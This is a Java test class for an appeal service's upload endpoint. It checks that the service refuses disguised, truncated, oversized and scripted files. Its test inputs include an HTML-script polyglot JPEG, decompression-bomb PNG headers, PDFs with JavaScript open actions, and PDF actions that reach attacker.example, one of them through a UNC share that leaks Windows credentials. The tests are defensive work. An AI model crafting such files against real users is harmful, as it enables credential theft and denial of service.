package com.appealdesk.document;

import static org.assertj.core.api.Assertions.assertThat;

import com.appealdesk.AppealDeskTest;
import com.appealdesk.support.AppealScenarios;
import com.appealdesk.support.Http;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.zip.CRC32;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDBorderStyleDictionary;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Uploads are decoded, not trusted: disguised, truncated, oversized and active files are refused with a stable code
 * and store nothing; images lose their metadata; limits per item hold; broken multipart and control characters are
 * 400, never 500.
 */
@AppealDeskTest
class UploadDefenceTest {

    @LocalServerPort int port;
    @Autowired JdbcClient jdbc;
    Http http;
    String trackingNumber;
    String bearer;

    @BeforeEach
    void openAppeal() {
        http = new Http(port);
        Map opened = http.openAppeal("Ana Lima", "BR");
        trackingNumber = (String) opened.get("trackingNumber");
        bearer = "Bearer " + opened.get("accessToken");
    }

    @Test
    void disguisedTruncatedAndOversizedImagesAreRefusedWithACode() {
        byte[] jpeg = AppealScenarios.image("jpeg", 40, 30);
        byte[] jpegThenHtml = concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, "<html><script>alert(1)</script>".getBytes());

        assertThat(code(upload(jpegThenHtml))).isEqualTo("IMAGE_UNREADABLE");
        assertThat(code(upload(Arrays.copyOf(AppealScenarios.PNG, AppealScenarios.PNG.length / 2)))).isEqualTo("IMAGE_UNREADABLE");
        assertThat(code(upload(Arrays.copyOf(jpeg, jpeg.length - 40)))).isEqualTo("IMAGE_UNREADABLE");
        assertThat(code(upload(pngHeaderClaiming(50_000, 50_000)))).isEqualTo("IMAGE_TOO_LARGE");
        // under the pixel limit, but 16-bit RGBA: 320 MB once decoded, from a file of a few hundred KB
        ResponseEntity<Map> deep = upload(pngHeaderClaiming(6_324, 6_324, 16, 6));
        assertThat(code(deep)).isEqualTo("IMAGE_TOO_LARGE");
        assertThat(deep.getBody().get("detail").toString()).contains("306 MiB decoded");
        assertThat(code(upload("GIF89a....".getBytes()))).isEqualTo("UNSUPPORTED_TYPE");
        assertThat(storedCount()).isZero();
    }

    @Test
    void brokenAndActivePdfsAreRefusedAndAPlainOneIsKept() throws Exception {
        assertThat(code(upload("%PDF-".getBytes()))).isEqualTo("PDF_UNREADABLE");
        byte[] plain = pdf(null);
        assertThat(code(upload(Arrays.copyOf(plain, plain.length - 30)))).isEqualTo("PDF_UNREADABLE");
        assertThat(code(upload(pdf(document -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.alert('hi')")))))).isEqualTo("PDF_ACTIVE_CONTENT");
        assertThat(code(upload(pdf(document -> {
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(new PDEmbeddedFilesNameTreeNode());
            document.getDocumentCatalog().setNames(names);
        })))).isEqualTo("PDF_ACTIVE_CONTENT");
        assertThat(storedCount()).isZero();

        assertThat(upload(plain).getStatusCode().value()).isEqualTo(201);
    }

    @Test
    void actionsHiddenInDirectDictionariesOrOfKindsBeyondNavigationAreRefusedAndPlainNavigationIsKept() throws Exception {
        // JavaScript chained behind a harmless jump run on opening, neither an object of its own
        assertThat(code(upload(pdf(document -> {
            COSDictionary script = direct(action("JavaScript"));
            script.setString(COSName.JS, "app.alert('hi')");
            COSDictionary jump = direct(action("GoTo"));
            jump.setItem(COSName.D, destination(document));
            jump.setItem(COSName.NEXT, script);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, jump);
        })))).isEqualTo("PDF_ACTIVE_CONTENT");
        // a link followed on opening, unasked
        assertThat(code(upload(pdf(document -> {
            COSDictionary link = direct(action("URI"));
            link.setString(COSName.URI, "https://attacker.example/?seen");
            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, link);
        })))).isEqualTo("PDF_ACTIVE_CONTENT");
        // a bookmark opening a file on a remote share (Windows sends the reviewer's credentials to it)
        assertThat(code(upload(pdf(document -> bookmark(document, direct(remoteFile())))))).isEqualTo("PDF_ACTIVE_CONTENT");
        assertThat(storedCount()).isZero();

        // bookmarks that jump within the document, and a link annotation with a dashed border (/S /D), are plain
        assertThat(upload(pdf(document -> {
            COSDictionary jump = direct(action("GoTo"));
            jump.setItem(COSName.D, destination(document));
            bookmark(document, jump);
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 100, 20));
            PDBorderStyleDictionary border = new PDBorderStyleDictionary();
            border.setStyle(PDBorderStyleDictionary.STYLE_DASHED);
            link.setBorderStyle(border);
            try {
                document.getPage(0).getAnnotations().add(link);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        })).getStatusCode().value()).isEqualTo(201);
    }

    private static COSDictionary action(String kind) {
        COSDictionary action = new COSDictionary();
        action.setName(COSName.S, kind);
        return action;
    }

    /** Written inside the dictionary that holds it, not as an object of its own. */
    private static COSDictionary direct(COSDictionary dictionary) {
        dictionary.setDirect(true);
        return dictionary;
    }

    private static COSDictionary remoteFile() {
        COSDictionary action = action("GoToR");
        action.setString(COSName.F, "\\\\attacker.example\\share\\x.pdf");
        COSArray page = new COSArray();
        page.add(org.apache.pdfbox.cos.COSInteger.ZERO);
        page.add(COSName.getPDFName("Fit"));
        action.setItem(COSName.D, page);
        return action;
    }

    private static COSArray destination(PDDocument document) {
        COSArray destination = new COSArray();
        destination.add(document.getPage(0).getCOSObject());
        destination.add(COSName.getPDFName("Fit"));
        return destination;
    }

    private static void bookmark(PDDocument document, COSDictionary action) {
        PDDocumentOutline outline = new PDDocumentOutline();
        PDOutlineItem item = new PDOutlineItem();
        item.setTitle("Page 1");
        item.getCOSObject().setItem(COSName.A, action);
        outline.addLast(item);
        document.getDocumentCatalog().setDocumentOutline(outline);
    }

    @Test
    void anImageIsStoredWithoutItsMetadataAndEachItemTakesAFewFilesOnly() {
        byte[] jpeg = AppealScenarios.image("jpeg", 40, 30);
        byte[] withGps = concat(Arrays.copyOf(jpeg, 2), concat(segment(0xE1, "http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>"
                + "<exif:GPSLatitude>52,31.2N</exif:GPSLatitude></x:xmpmeta>"), concat(segment(0xFE, "taken at 52.52N 13.40E"),
                Arrays.copyOfRange(jpeg, 2, jpeg.length))));

        ResponseEntity<Map> stored = upload(withGps);
        assertThat(stored.getStatusCode().value()).isEqualTo(201);
        String id = (String) stored.getBody().get("documentId");
        byte[] served = http.getBytes("/staff/documents/" + id + "?purpose=checking the metadata strip", Http.AUDITOR).getBody();
        assertThat(new String(withGps, StandardCharsets.ISO_8859_1)).contains("GPSLatitude", "52.52N");
        assertThat(new String(served, StandardCharsets.ISO_8859_1)).doesNotContain("GPSLatitude", "52.52N", "xmpmeta");
        assertThat(stored.getBody().get("receivedSha256")).isNotEqualTo(stored.getBody().get("sha256"));

        assertThat(upload(jpeg).getStatusCode().value()).isEqualTo(201);
        assertThat(upload(jpeg).getStatusCode().value()).isEqualTo(201);
        ResponseEntity<Map> fourth = upload(jpeg);
        assertThat(fourth.getStatusCode().value()).isEqualTo(409);
        assertThat(fourth.getBody()).containsEntry("code", "UPLOAD_LIMIT");
        assertThat(storedCount()).isEqualTo(3);
    }

    @Test
    void aMultipartUploadWithoutAValidTokenIsRefusedBeforeItsBodyIsRead() throws Exception {
        for (String authorization : java.util.Arrays.asList("Bearer not-the-token", null)) {
            try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
                socket.setSoTimeout(10_000);
                // 11 MB announced, a few bytes sent: a server that reads the body first waits for the rest
                String head = "POST /api/appeals/" + trackingNumber + "/documents HTTP/1.1\r\nHost: localhost\r\n"
                        + (authorization == null ? "" : "Authorization: " + authorization + "\r\n")
                        + "Content-Type: multipart/form-data; boundary=xyz\r\nContent-Length: 11000000\r\n\r\n"
                        + "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"scan.pdf\"\r\n\r\n%PDF-1.7\r\n";
                socket.getOutputStream().write(head.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
                socket.getOutputStream().flush();
                String status = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(),
                        java.nio.charset.StandardCharsets.US_ASCII)).readLine();
                assertThat(status).as("answered with the body still unsent, %s", authorization).startsWith("HTTP/1.1 401");
            }
        }
    }

    @Test
    void anItemAskedForAgainIsAcceptedWhateverCameBeforeSoTheLimitNeverStrandsAnAppeal(@Autowired AppealScenarios scenarios) {
        byte[] jpeg = AppealScenarios.image("jpeg", 40, 30);
        for (int file = 0; file < 3; file++) {
            assertThat(upload(jpeg).getStatusCode().value()).isEqualTo(201);
        }
        assertThat(upload(jpeg).getStatusCode().value()).as("a fourth file for an item already received").isEqualTo(409);
        scenarios.uploadOutstanding(trackingNumber);
        scenarios.decide(scenarios.instance(trackingNumber), "reviewer", "REQUEST_MORE_DOCUMENTS", "DOCUMENTS_UNREADABLE",
                java.util.List.of("PASSPORT_DATA_PAGE"));

        ResponseEntity<Map> askedFor = upload(jpeg);

        assertThat(askedFor.getStatusCode().value()).as("%s", askedFor.getBody()).isEqualTo(201);
        assertThat(http.get("/api/appeals/" + trackingNumber, bearer).getBody().get("status")).isEqualTo("IN_REVIEW");
    }

    @Test
    void brokenMultipartAndControlCharactersAre400() throws Exception {
        String url = "http://localhost:" + port + "/api/appeals/" + trackingNumber + "/documents";
        HttpClient client = HttpClient.newHttpClient();
        assertThat(raw(client, url, "multipart/form-data", "--x\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\nPASSPORT_DATA_PAGE\r\n"))
                .as("no boundary").isEqualTo(400);
        assertThat(raw(client, url, "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n\u0089PNG"))
                .as("truncated").isEqualTo(400);
        assertThat(raw(client, url, "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\n"
                + "PASSPORT_DATA_PAGE\r\n--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\u0000.png\"\r\n"
                + "Content-Type: image/png\r\n\r\nabc\r\n--x--\r\n")).as("NUL in the file name").isEqualTo(400);

        ResponseEntity<Map> nul = http.post("/api/appeals", Http.WALLET, Map.of("accountId", AppealScenarios.newAccountId(),
                "channel", "APP", "applicant", Map.of("fullName", "Ana\u0000Lima", "residenceRegion", "BR",
                        "idDocumentType", "PASSPORT", "language", "en")));
        assertThat(nul.getStatusCode().value()).isEqualTo(400);
        assertThat(nul.getBody().get("detail").toString()).contains("applicant.fullName", "control characters");
        assertThat(storedCount()).isZero();
    }

    private int raw(HttpClient client, String url, String contentType, String body) throws Exception {
        return client.send(HttpRequest.newBuilder(URI.create(url)).header("Authorization", bearer)
                .header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.getBytes(StandardCharsets.ISO_8859_1))).build(),
                HttpResponse.BodyHandlers.discarding()).statusCode();
    }

    private ResponseEntity<Map> upload(byte[] content) {
        return http.upload(trackingNumber, bearer, "PASSPORT_DATA_PAGE", content);
    }

    private static String code(ResponseEntity<Map> response) {
        assertThat(response.getStatusCode().value()).isEqualTo(415);
        return (String) response.getBody().get("code");
    }

    private long storedCount() {
        return jdbc.sql("select count(*) from appeal_desk.document where tracking_number = ?").param(trackingNumber)
                .query(Long.class).single();
    }

    private static byte[] pdf(java.util.function.Consumer<PDDocument> change) throws Exception {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            if (change != null) {
                change.accept(document);
            }
            document.save(out);
            return out.toByteArray();
        }
    }

    /** A PNG signature and an IHDR chunk claiming the size, with a correct CRC: all a reader sees before decoding. */
    private static byte[] pngHeaderClaiming(int width, int height) {
        return pngHeaderClaiming(width, height, 8, 2);
    }

    /** A PNG of this many pixels, bits per sample and colour type (2 RGB, 6 RGBA) by its header, with no pixel data. */
    private static byte[] pngHeaderClaiming(int width, int height, int bitDepth, int colourType) {
        ByteBuffer ihdr = ByteBuffer.allocate(17).put("IHDR".getBytes()).putInt(width).putInt(height)
                .put((byte) bitDepth).put((byte) colourType).put((byte) 0).put((byte) 0).put((byte) 0);
        CRC32 crc = new CRC32();
        crc.update(ihdr.array());
        CRC32 idat = new CRC32();
        idat.update("IDAT".getBytes());
        // an empty IDAT chunk: where the pixels would start, as far as a reader looks before decoding
        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4 + 12 + 12);
        png.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A}).putInt(13).put(ihdr.array())
                .putInt((int) crc.getValue()).putInt(0).put("IDAT".getBytes()).putInt((int) idat.getValue())
                .putInt(0).put("IEND".getBytes()).putInt(0xAE426082);
        return png.array();
    }

    /** A JPEG marker segment (APPn, COM) with its length. */
    private static byte[] segment(int marker, String payload) {
        byte[] data = payload.getBytes(StandardCharsets.ISO_8859_1);
        return concat(new byte[] {(byte) 0xFF, (byte) marker, (byte) ((data.length + 2) >> 8), (byte) (data.length + 2)}, data);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
